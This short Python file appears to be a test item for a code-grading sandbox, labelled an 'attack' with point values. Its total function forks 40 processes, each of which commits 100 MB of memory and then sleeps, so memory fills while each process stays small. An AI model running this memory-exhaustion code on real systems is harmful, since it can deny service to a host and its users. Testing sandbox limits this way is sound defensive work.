# attack: fills the memory with many processes, each of which stays small
# points: double=2 total=0
# %% total
import os, time
def total(x):
    for _ in range(40):
        if os.fork() == 0:
            kept = bytearray(100_000_000)
            for place in range(0, len(kept), 4096):
                kept[place] = 1
            time.sleep(1000)
    time.sleep(1000)
